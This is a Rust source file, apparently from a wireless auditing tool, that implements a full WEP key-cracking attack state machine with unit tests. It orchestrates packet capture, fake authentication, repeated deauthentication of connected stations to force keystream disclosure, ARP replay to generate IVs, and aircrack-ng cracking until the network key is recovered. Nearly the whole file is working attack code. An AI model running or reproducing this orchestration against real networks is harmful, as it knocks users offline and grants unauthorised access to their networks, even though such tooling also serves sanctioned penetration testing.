//! Top-level WEP attack state machine
//!
//! Sequences the four supervised processes: start the capture and fake
//! authentication, hold authentication through deauthentication storms and
//! keystream acquisition, then generate IVs with ARP replay while
//! aircrack-ng works on the growing capture, until the key lands on the
//! access point record.
//!
//! Every wait loop carries a deadline and checks the cancellation token, so
//! a stalled tool surfaces as a typed error instead of an unbounded hang,
//! and all four processes are stopped and cleaned on every exit path.

use std::time::Instant;

use async_trait::async_trait;
use tokio::time::sleep;
use tracing::{debug, info, warn};

use wepraid_core::{
    CancelToken, Error, Result, Timings, WirelessInterface, WirelessStation,
};

use crate::arpreplay::ArpReplay;
use crate::capture::WirelessCapture;
use crate::cracker::KeyCracker;
use crate::deauth::deauthenticate;
use crate::fakeauth::{FakeAuthOptions, FakeAuthState, FakeAuthentication};
use crate::{flags, SharedAccessPoint};

/// Deauthentication series per burst while forcing keystream disclosure
const DEAUTH_COUNT: u32 = 10;

/// Attack phases, in the order they are normally entered
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackPhase {
    Idle,
    Capturing,
    Authenticating,
    /// Nested within authentication: deauthenticating stations until the
    /// capture discloses a keystream file
    AcquiringKeystream,
    Replaying,
    Cracking,
    Cracked,
    Aborted,
}

/// An attack that can be executed against a wireless network
#[async_trait]
pub trait WirelessAttack {
    /// Attack name for logging and selection
    fn name(&self) -> &'static str;

    /// Execute the attack to completion or typed failure
    async fn execute(&mut self, cancel: &CancelToken) -> Result<()>;
}

/// Attack on a WEP secured network
pub struct WepAttackOrchestrator {
    interface: WirelessInterface,
    ap: SharedAccessPoint,
    timings: Timings,
    force: bool,
    phase: AttackPhase,
}

impl WepAttackOrchestrator {
    pub fn new(interface: WirelessInterface, ap: SharedAccessPoint, timings: Timings) -> Self {
        Self {
            interface,
            ap,
            timings,
            force: false,
            phase: AttackPhase::Idle,
        }
    }

    /// Attack even if the network has already been cracked
    pub fn force(mut self, force: bool) -> Self {
        self.force = force;
        self
    }

    pub fn phase(&self) -> AttackPhase {
        self.phase
    }

    /// Run the attack. If the target is already cracked and no forced
    /// re-attack was requested, this is a no-op success: nothing is
    /// spawned.
    pub async fn run(&mut self, cancel: &CancelToken) -> Result<()> {
        {
            let ap = self.ap.lock();
            if !self.force && ap.is_cracked() {
                info!(bssid = %ap.bssid, essid = %ap.essid, "network already cracked");
                self.phase = AttackPhase::Cracked;
                return Ok(());
            }
        }

        let mut capture = WirelessCapture::new(self.interface.clone(), self.ap.clone(), &self.timings);
        let mut fakeauth =
            FakeAuthentication::new(self.interface.clone(), self.ap.clone(), &self.timings);
        let mut replay = ArpReplay::new(self.interface.clone(), self.ap.clone(), &self.timings);
        let mut cracker = KeyCracker::new(self.ap.clone(), &self.timings);

        let result = self
            .attack(&mut capture, &mut fakeauth, &mut replay, &mut cracker, cancel)
            .await;

        // teardown in reverse-dependency order, on every exit path
        cracker.stop();
        cracker.clean();
        capture.stop();
        capture.clean();
        replay.stop();
        replay.clean();
        fakeauth.stop();
        fakeauth.clean();

        match &result {
            Ok(()) => self.phase = AttackPhase::Cracked,
            Err(e) => {
                warn!(error = %e, "WEP attack aborted");
                self.phase = AttackPhase::Aborted;
            }
        }
        result
    }

    async fn attack(
        &mut self,
        capture: &mut WirelessCapture,
        fakeauth: &mut FakeAuthentication,
        replay: &mut ArpReplay,
        cracker: &mut KeyCracker,
        cancel: &CancelToken,
    ) -> Result<()> {
        {
            let ap = self.ap.lock();
            info!(bssid = %ap.bssid, essid = %ap.essid, channel = ap.channel, "starting WEP attack");
        }

        self.phase = AttackPhase::Capturing;
        capture.start()?;

        self.phase = AttackPhase::Authenticating;
        fakeauth.start(&FakeAuthOptions::default())?;
        sleep(self.timings.fakeauth_start_delay).await;

        self.authenticate(capture, fakeauth, cancel).await?;

        self.phase = AttackPhase::Replaying;
        replay.start(self.interface.mac_address)?;
        // give the capture time to register the replay stream
        sleep(self.timings.replay_settle).await;

        self.phase = AttackPhase::Cracking;
        let cap_path = capture
            .cap_path()
            .ok_or_else(|| Error::extraction("capture has no output file"))?
            .to_path_buf();
        cracker.start(&cap_path)?;

        self.crack(capture, fakeauth, replay, cracker, cancel).await?;

        let ap = self.ap.lock();
        info!(bssid = %ap.bssid, key_file = ?ap.key_file_path(), "WEP key recovered");
        Ok(())
    }

    /// Hold the loop until fake authentication reaches `Ok`.
    ///
    /// Keystream acquisition is checked before deauthentication backoff,
    /// and at most one restart action is taken per pass even when both
    /// flags are set.
    async fn authenticate(
        &mut self,
        capture: &mut WirelessCapture,
        fakeauth: &mut FakeAuthentication,
        cancel: &CancelToken,
    ) -> Result<()> {
        let deadline = Instant::now() + self.timings.auth_deadline;

        while fakeauth.state() != FakeAuthState::Ok {
            if cancel.is_cancelled() {
                return Err(Error::Cancelled);
            }
            if Instant::now() >= deadline {
                return Err(Error::DeadlineExceeded {
                    waiting_for: "fake authentication",
                    limit: self.timings.auth_deadline,
                });
            }

            let report = fakeauth.update()?;

            if report.flags.is_set(flags::NEEDS_KEYSTREAM) {
                self.phase = AttackPhase::AcquiringKeystream;
                info!("shared key authentication required, forcing keystream disclosure");
                self.acquire_keystream(capture, cancel).await?;
                {
                    let keystream = capture
                        .keystream_path()
                        .ok_or_else(|| Error::extraction("keystream file disappeared"))?
                        .to_path_buf();
                    self.ap.lock().save_keystream(&keystream)?;
                }
                fakeauth.clean();
                fakeauth.start(&FakeAuthOptions::default())?;
                self.phase = AttackPhase::Authenticating;
            } else if report.flags.is_set(flags::DEAUTHENTICATED) {
                debug!(
                    backoff = ?self.timings.fakeauth_backoff,
                    "deauthenticated, backing off before re-authenticating"
                );
                fakeauth.clean();
                sleep(self.timings.fakeauth_backoff).await;
                fakeauth.start(&FakeAuthOptions::default())?;
            } else if fakeauth.state() == FakeAuthState::Terminated {
                debug!("fake authentication exited without a flag, restarting");
                fakeauth.clean();
                sleep(self.timings.fakeauth_backoff).await;
                fakeauth.start(&FakeAuthOptions::default())?;
            }

            sleep(self.timings.auth_poll_interval).await;
        }
        Ok(())
    }

    /// Deauthenticate the capture's known stations until the keystream file
    /// shows up, bounded by rounds and deadline.
    async fn acquire_keystream(
        &mut self,
        capture: &mut WirelessCapture,
        cancel: &CancelToken,
    ) -> Result<()> {
        let deadline = Instant::now() + self.timings.keystream_deadline;

        let observed = capture
            .wait_for_result(
                self.timings.csv_poll_interval,
                self.timings.keystream_deadline,
                cancel,
            )
            .await?;
        let stations: Vec<WirelessStation> = observed
            .first()
            .map(|ap| ap.associated_stations.clone())
            .unwrap_or_default();
        if stations.is_empty() {
            warn!("no associated stations observed yet, keystream disclosure may stall");
        }

        let mut rounds = 0u32;
        while !capture.has_keystream() {
            if cancel.is_cancelled() {
                return Err(Error::Cancelled);
            }
            if Instant::now() >= deadline {
                return Err(Error::DeadlineExceeded {
                    waiting_for: "keystream disclosure",
                    limit: self.timings.keystream_deadline,
                });
            }
            if rounds >= self.timings.max_deauth_rounds {
                return Err(Error::RetriesExhausted {
                    operation: "keystream disclosure",
                    attempts: rounds,
                });
            }

            for station in &stations {
                deauthenticate(&self.interface, station, DEAUTH_COUNT).await?;
                sleep(self.timings.deauth_spacing).await;
                if capture.has_keystream() || cancel.is_cancelled() {
                    break;
                }
            }
            if stations.is_empty() {
                sleep(self.timings.deauth_spacing).await;
            }
            rounds += 1;
        }

        debug!("keystream detected");
        Ok(())
    }

    /// Poll all four processes until the key lands on the AP.
    async fn crack(
        &mut self,
        capture: &mut WirelessCapture,
        fakeauth: &mut FakeAuthentication,
        replay: &mut ArpReplay,
        cracker: &mut KeyCracker,
        cancel: &CancelToken,
    ) -> Result<()> {
        let deadline = Instant::now() + self.timings.crack_deadline;

        loop {
            let cracked = self.ap.lock().is_cracked();
            if cracked {
                break;
            }
            if cancel.is_cancelled() {
                return Err(Error::Cancelled);
            }
            if Instant::now() >= deadline {
                return Err(Error::DeadlineExceeded {
                    waiting_for: "key recovery",
                    limit: self.timings.crack_deadline,
                });
            }

            fakeauth.update()?;
            replay.update()?;
            cracker.update()?;
            capture.update()?;

            let stats = replay.stats();
            debug!(
                fakeauth = ?fakeauth.state(),
                replay = ?replay.state(),
                cracker = ?cracker.state(),
                arp_requests = stats.arps,
                pps = stats.pps,
                ivs = capture.iv_count(),
                "attack progress"
            );

            sleep(self.timings.poll_interval).await;
        }
        Ok(())
    }
}

#[async_trait]
impl WirelessAttack for WepAttackOrchestrator {
    fn name(&self) -> &'static str {
        "wep"
    }

    async fn execute(&mut self, cancel: &CancelToken) -> Result<()> {
        self.run(cancel).await
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::fs;
    use std::io::Write;
    use std::sync::Arc;
    use std::time::Duration;

    use parking_lot::Mutex;
    use wepraid_core::{MacAddr, WirelessAccessPoint};

    fn fixture(cracked: bool) -> (WirelessInterface, SharedAccessPoint, tempfile::TempDir) {
        let dir = tempfile::tempdir().unwrap();
        let iface = WirelessInterface::new(
            "wlan0mon",
            MacAddr([0x00, 0x36, 0x76, 0x54, 0xb2, 0x95]),
        );
        let mut ap = WirelessAccessPoint::new(
            MacAddr([0x00, 0x11, 0x22, 0x33, 0x44, 0x55]),
            "testnet",
            6,
        );
        if cracked {
            let key = dir.path().join("psk.hex");
            fs::File::create(&key)
                .unwrap()
                .write_all(b"AB:CD:EF:01:02:03")
                .unwrap();
            ap.save_key_file(&key).unwrap();
        }
        (iface, Arc::new(Mutex::new(ap)), dir)
    }

    #[tokio::test]
    async fn test_already_cracked_target_is_a_no_op() {
        let (iface, ap, _dir) = fixture(true);
        let mut attack = WepAttackOrchestrator::new(iface, ap, Timings::default());
        let cancel = CancelToken::new();

        // no tool is spawned: with the aircrack-ng suite absent this would
        // otherwise fail with a spawn error
        attack.run(&cancel).await.unwrap();
        assert_eq!(attack.phase(), AttackPhase::Cracked);
    }

    #[tokio::test]
    async fn test_forced_reattack_bypasses_the_short_circuit() {
        let (iface, ap, _dir) = fixture(true);
        let timings = Timings {
            auth_deadline: Duration::from_millis(50),
            auth_poll_interval: Duration::from_millis(10),
            fakeauth_start_delay: Duration::from_millis(10),
            fakeauth_backoff: Duration::from_millis(10),
            termination_grace: Duration::from_millis(100),
            ..Timings::default()
        };
        let mut attack = WepAttackOrchestrator::new(iface, ap, timings).force(true);
        let cancel = CancelToken::new();

        // the attack genuinely starts; without the real tools (or a real
        // network) it must come back as a typed failure, not a hang
        let result = attack.run(&cancel).await;
        assert!(result.is_err());
        assert_eq!(attack.phase(), AttackPhase::Aborted);
    }

    #[tokio::test]
    async fn test_keystream_acquisition_deadline_is_typed() {
        let (iface, ap, _dir) = fixture(false);
        let timings = Timings {
            keystream_deadline: Duration::from_millis(50),
            csv_poll_interval: Duration::from_millis(10),
            ..Timings::default()
        };
        let mut attack =
            WepAttackOrchestrator::new(iface.clone(), ap.clone(), timings.clone());
        let mut capture = WirelessCapture::new(iface, ap, &timings);
        let cancel = CancelToken::new();

        // capture never started, so no CSV and no keystream can ever appear
        let result = attack.acquire_keystream(&mut capture, &cancel).await;
        assert!(matches!(result, Err(Error::DeadlineExceeded { .. })));
    }

    #[tokio::test]
    async fn test_cancellation_is_a_typed_failure() {
        let (iface, ap, _dir) = fixture(false);
        let timings = Timings {
            auth_deadline: Duration::from_secs(5),
            auth_poll_interval: Duration::from_millis(10),
            fakeauth_start_delay: Duration::from_millis(10),
            termination_grace: Duration::from_millis(100),
            ..Timings::default()
        };
        let mut attack = WepAttackOrchestrator::new(iface, ap, timings);
        let cancel = CancelToken::new();
        cancel.cancel();

        let result = attack.run(&cancel).await;
        assert!(result.is_err());
        assert_eq!(attack.phase(), AttackPhase::Aborted);
    }
}
